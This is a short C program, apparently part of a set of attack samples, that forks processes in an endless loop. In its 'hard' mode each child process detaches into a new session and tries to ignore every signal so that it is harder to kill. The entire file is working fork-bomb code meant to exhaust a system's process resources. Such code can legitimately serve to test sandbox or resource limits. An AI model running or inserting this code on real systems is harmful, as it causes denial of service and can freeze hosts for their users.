// Forks without end; "hard" also leaves its session and ignores every signal it may.
#include "attack.h"

int main(int argc, char **argv) {
  int hard = argc > 1 && !strcmp(argv[1], "hard");
  for (;;) {
    if (fork() == 0 && hard) {
      setsid();
      for (int s = 1; s < 65; s++) signal(s, SIG_IGN);
    }
  }
}
